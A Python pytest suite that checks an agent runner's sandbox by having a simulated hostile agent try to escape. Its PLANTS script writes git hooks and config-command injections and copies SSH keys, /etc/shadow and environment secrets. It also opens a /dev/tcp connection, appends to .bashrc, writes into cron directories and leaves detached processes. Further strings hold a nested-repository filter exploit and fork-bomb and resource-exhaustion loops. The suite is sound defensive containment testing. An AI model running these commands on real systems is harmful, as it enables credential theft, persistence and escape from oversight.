"""A hostile agent, through the front door: whatever it plants, reads, reaches for or leaves, the host does not feel it.

A test class inherits the suite and gives it `sandboxed`: a project whose settings name the kind of sandbox.
"""

import json
import secrets
import socket
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
import yaml

from genba.testing.sandbox_conformance import living_with
from tests.project import Project

PLANTS = r"""
owned=$1; root=$2; home=$3; port=$4; sock=$5; word=$6
evil="touch $owned"
own=$(git rev-parse --git-dir)

# what git runs by itself, in the agent's own repository and in whatever it can name
mkdir -p "$own/hooks"
for hook in pre-commit post-commit post-checkout post-merge post-rewrite reference-transaction post-index-change \
            pre-push update post-update pre-receive proc-receive sendemail-validate fsmonitor-watchman; do
  for place in "$own/hooks" "$root/.git/hooks" .git/hooks; do
    printf '#!/bin/sh\n%s\n' "$evil" > "$place/$hook" && chmod +x "$place/$hook"
  done
done 2>/dev/null
rm -f "$own/hooks"/*  # its own commits shall work; the rest stays planted
for name in core.fsmonitor core.sshCommand core.pager core.editor core.alternateRefsCommand diff.external \
            uploadpack.packObjectsHook filter.evil.clean filter.evil.smudge filter.evil.process merge.evil.driver \
            diff.evil.command diff.evil.textconv credential.helper gpg.program; do
  git config -f "$root/.git/config" $name "$evil"
  git config -f "$own/evil" $name "$evil; cat"
done 2>/dev/null
printf '#!/bin/sh\n%s\n' "$evil" > evil.sh; chmod +x evil.sh

# attributes, embedded repositories, links
printf '* filter=evil diff=evil merge=evil\n' > .gitattributes
git init -q sub 2>/dev/null
(cd sub && git -c user.name=E -c user.email=e@localhost commit -q --allow-empty -m inner)
printf '[core]\n\tfsmonitor = %s\n\thooksPath = ../hooks\n' "$evil" >> sub/.git/config
ln -s "$home/.ssh/id_ed25519" key-link
ln -s "$root" root-link
ln -s / slash-link

# the objects of the user, and stores that are nobody's
mkdir -p "$own/objects/info"
echo "$home/.ssh" >> "$own/objects/info/alternates"
rm -rf "$root/.git/objects" "$root/.git/refs" "$root/README.md" 2>/dev/null
git update-ref refs/heads/main HEAD~0 2>/dev/null; git branch -f other 2>/dev/null; git tag evil 2>/dev/null

# reading and writing outside
cat "$home/.ssh/id_ed25519" > stolen-key 2>/dev/null
cat key-link slash-link/etc/shadow /etc/shadow > stolen-files 2>/dev/null
env > stolen-environment; cat /proc/[0-9]*/environ >> stolen-environment 2>/dev/null
for place in "$home" "$root" "$root/.git" / /usr/local/bin /etc/cron.d /tmp /var/spool; do
  echo x > "$place/planted-$word"
done 2>/dev/null
echo "$evil" >> "$home/.bashrc" 2>/dev/null
bash -c "echo stolen > /dev/tcp/127.0.0.1/$port" 2>/dev/null && echo connected > reached
python3 - "$sock" <<'PYTHON'
import socket, sys
for address in (sys.argv[1], "\0" + sys.argv[1]):
    try:
        with socket.socket(socket.AF_UNIX) as one:
            one.connect(address)
            open("reached", "a").write("connected\n")
    except OSError:
        pass
PYTHON

# what stays behind
(setsid env -i /usr/bin/sleep "$word" >/dev/null 2>&1 </dev/null &)
nohup setsid /usr/bin/sleep "$word" >/dev/null 2>&1 &

git add -A 2>/dev/null
git commit -q -m "Plant everything"
exit 0
"""

GITLINK = r"""
git init -q sub && echo one > sub/f && echo '* filter=x' > sub/.gitattributes
git -C sub add -A && git -C sub commit -qm inner
git add sub 2>/dev/null && git commit -q -m "Add a gitlink"
git -C sub config filter.x.clean "touch $1; cat" && git -C sub config core.fsmonitor "touch $1"
echo more >> sub/f; echo left > uncommitted.txt
"""
"""The exploit of the external review: git on the host would run the filter of the nested repository."""

HOGS = {
    "memory": "python3 -c 'import time\nheld = []\nwhile True:\n  held.append(b\"x\" * 4000000)\n  time.sleep(.02)'",
    "processes": "python3 -c 'import os, time\nfor _ in range(400):\n  try:\n    if os.fork() == 0: break\n"
    "  except OSError: time.sleep(.01)\ntime.sleep(60)'",
    "disk": "i=0; while true; do i=$((i+1)); head -c 2000000 /dev/zero > part-$i; sleep 0.02; done",
}
LIMITS = {"memory": ("memory_mb", 64), "processes": ("processes", 40), "disk": ("disk_mb", 20)}


def settle(project: Project, **sandbox: object) -> None:
    file = project.root / ".genba" / "config.yaml"
    known = yaml.safe_load(file.read_text()) if file.exists() else {}
    known.setdefault("sandbox", {}).update(sandbox)
    project.write(".genba/config.yaml", yaml.safe_dump(known))


@contextmanager
def listening(path: str) -> Iterator[tuple[int, list[socket.socket]]]:
    with (
        socket.create_server(("127.0.0.1", 0)) as loopback,
        socket.socket(socket.AF_UNIX) as named,
        socket.socket(socket.AF_UNIX) as abstract,
    ):
        named.bind(path)
        abstract.bind(f"\0{path}")
        for server in (named, abstract):
            server.listen()
        for server in (loopback, named, abstract):
            server.setblocking(False)
        yield loopback.getsockname()[1], [loopback, named, abstract]


class HostileRunSuite:
    def test_whatever_it_plants_nothing_happens_on_the_host(self, sandboxed: Project, tmp_path: Path) -> None:
        arg, secret = f"{100_000 + secrets.randbelow(10**5)}.{secrets.randbelow(10**9)}", secrets.token_hex(20)
        owned, home = tmp_path / "owned", tmp_path / "somebody"
        (home / ".ssh").mkdir(parents=True)
        (home / ".ssh" / "id_ed25519").write_text(secret)
        sandboxed.environment |= {"HOME": str(home), "GENBA_TEST_TOKEN": secret, "AWS_SECRET_ACCESS_KEY": secret}
        path = f"/tmp/genba-{secrets.token_hex(8)}"
        before = (
            sandboxed.git("rev-parse", "main"),
            sandboxed.read("README.md"),
            (sandboxed.root / ".git/config").read_text(),
        )
        with listening(path) as (port, servers):
            try:
                args = [str(each) for each in (owned, sandboxed.root, home, port, path, arg)]
                sandboxed.agent(adapter={"type": "custom", "command": ["bash", "-c", PLANTS, "bash", *args]})
                declared = sandboxed.git("rev-parse", "main")
                done = sandboxed.genba("run", "worker", "--json")
                for server in servers:
                    with pytest.raises(BlockingIOError):
                        server.accept()
            finally:
                Path(path).unlink(missing_ok=True)
        assert done.json["outcome"] in ("completed", "failed"), done.err
        assert "Plant everything" in sandboxed.git("log", "--all", "--format=%s"), done.err
        sandboxed.git("status", "--short")
        sandboxed.git("fsck", "--strict", "--no-dangling")
        assert not owned.exists()
        assert living_with(arg) == []
        self._nothing_was_read(sandboxed, secret)
        self._nothing_was_written(sandboxed, before, declared, home, arg)

    def test_the_filter_of_a_nested_repository_does_not_run_on_the_host(
        self, sandboxed: Project, tmp_path: Path
    ) -> None:
        owned = tmp_path / "owned"
        sandboxed.agent(adapter={"type": "custom", "command": ["bash", "-c", GITLINK, "bash", str(owned)]})

        done = sandboxed.genba("run", "worker", "--json")

        assert done.json["outcome"] in ("completed", "failed"), done.err
        assert "Add a gitlink" in sandboxed.git("log", "--all", "--format=%s"), done.err
        assert not owned.exists()
        refs = sandboxed.git("for-each-ref", "--format=%(refname)").splitlines()
        kept = [ref for ref in refs if "uncommitted.txt" in sandboxed.git("ls-tree", "-r", "--name-only", ref)]
        assert kept or (Path(done.json["workdir"]) / "uncommitted.txt").exists(), done.err

    def _nothing_was_read(self, sandboxed: Project, secret: str) -> None:
        everything = sandboxed.git("log", "--all", "-p", "--format=%H %s")
        kept = [
            file for file in (sandboxed.root / ".git" / "genba").rglob("*") if file.is_file() and not file.is_symlink()
        ]
        result = sandboxed.genba("logs", sandboxed.genba("sessions", "--all", "--json").json[0]["run"], "--json").out
        assert secret not in everything
        assert secret not in result
        assert [file for file in kept if secret.encode() in file.read_bytes()] == []

    def _nothing_was_written(
        self, sandboxed: Project, before: tuple[str, str, str], declared: str, home: Path, arg: str
    ) -> None:
        first, readme, config = before
        assert sandboxed.git("merge-base", "--is-ancestor", first, declared) == ""
        assert sandboxed.git("merge-base", "--is-ancestor", declared, "main") == ""
        assert sandboxed.git("show", "main:README.md") + "\n" == readme
        assert sandboxed.read("README.md") == readme
        assert (sandboxed.root / ".git/config").read_text() == config
        assert {"other", "evil"} & set(sandboxed.git("for-each-ref", "--format=%(refname:short)").split()) == set()
        assert [hook.name for hook in (sandboxed.root / ".git/hooks").glob("*") if hook.suffix != ".sample"] == []
        assert {file.name for file in home.iterdir()} - {".local", ".config"} == {".ssh"}  # podman's own, without root
        for place in (
            sandboxed.root,
            sandboxed.root / ".git",
            Path("/usr/local/bin"),
            Path("/etc/cron.d"),
            Path("/tmp"),
        ):
            assert not (place / f"planted-{arg}").exists()

    @pytest.mark.parametrize("kind", HOGS)
    def test_the_run_of_a_hog_ends_with_its_violation_named(self, sandboxed: Project, kind: str) -> None:
        name, value = LIMITS[kind]
        settle(sandboxed, limits={name: value})
        sandboxed.agent(adapter={"type": "custom", "command": ["bash", "-c", HOGS[kind]]})
        done = sandboxed.genba("run", "worker", "--json")
        assert done.json["outcome"] == "failed", done.out + done.err
        assert f"sandbox.limits.{name}" in done.out + done.err, done.out + done.err
        lines = [event for event in sandboxed.events() if f"sandbox.limits.{name}" in json.dumps(event)]
        assert lines
